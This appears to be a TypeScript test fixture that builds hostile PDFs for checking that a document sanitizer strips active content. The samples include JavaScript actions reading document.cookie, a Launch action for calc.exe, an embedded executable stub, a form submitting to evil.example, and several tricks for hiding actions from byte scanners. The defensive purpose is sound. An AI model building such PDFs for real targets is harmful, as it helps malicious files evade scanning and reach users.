import { deflateSync } from 'node:zlib';
import * as corpus from './corpus.ts';

const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>';

/** `base` with an incremental update appended: new objects and a new catalog, the way an editor saves. */
function withIncrementalUpdate(base: Buffer, objects: Record<number, string>): Buffer {
  let out = base.toString('latin1');
  const previous = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(out)![1]);
  const offsets: [number, number][] = [];
  for (const [number, body] of Object.entries(objects)) {
    offsets.push([Number(number), out.length]);
    out += `${number} 0 obj\n${body}\nendobj\n`;
  }
  const xref = out.length;
  out += 'xref\n';
  for (const [number, offset] of offsets) out += `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`;
  const size = Math.max(...offsets.map(([number]) => number)) + 1;
  out += `trailer\n<< /Size ${size} /Root 1 0 R /Prev ${previous} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/**
 * PDFs that try to act when staff open them, each hiding its action somewhere a byte scanner may miss:
 * every one must be stored without any of it.
 */
export const hostilePdfs: Record<string, Buffer> = {
  'an open action after a string literal holding "stream"': corpus.pdf({
    catalog: '/Lang (stream\n) /OpenAction 6 0 R',
    extraObjects: [SCRIPT],
  }),
  'an open action written with #-escaped names': corpus.pdf({
    catalog: '/AA << /O << /S /J#61vaScript /J#53 (x) >> >>',
  }),
  'document JavaScript in a compressed object stream': corpus.pdfWithScriptInObjectStream(),
  'an open action added by an incremental update': withIncrementalUpdate(corpus.pdf(), {
    1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
    6: SCRIPT,
  }),
  'a names tree of JavaScript': corpus.pdf({
    catalog: '/Names << /JavaScript 6 0 R >>',
    extraObjects: [`<< /Names [(run) ${SCRIPT}] >>`],
  }),
  'an attached executable': corpus.pdf({
    catalog: '/Names << /EmbeddedFiles 6 0 R >>',
    extraObjects: [
      '<< /Names [(a.exe) 7 0 R] >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>',
      '<< /Length 2 >>\nstream\nMZ\nendstream',
    ],
  }),
  'a launch action on opening': corpus.pdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
  'a link annotation running JavaScript': withIncrementalUpdate(corpus.pdf(), {
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>',
    6: `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${SCRIPT} >>`,
  }),
  'a page action on opening the page': withIncrementalUpdate(corpus.pdf(), {
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /AA << /O ${SCRIPT} >> >>`,
  }),
  'a form that submits itself': corpus.pdf({
    catalog: '/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>',
    extraObjects: [
      '<< /FT /Btn /T (go) /A << /S /SubmitForm /F (https://evil.example/collect) >> >>',
      `<< /Length 10 >>\nstream\n<xdp></xdp>\nendstream`,
    ],
  }),
  'a JavaScript action in an object stream behind a compressed catalog': corpus.pdfWithObjectStream(
    `<< /JavaScript << /Names [(x) ${SCRIPT}] >> >>`,
    deflateSync(Buffer.from(`6 0 << /JavaScript << /Names [(x) ${SCRIPT}] >> >>`, 'latin1')),
  ),
};
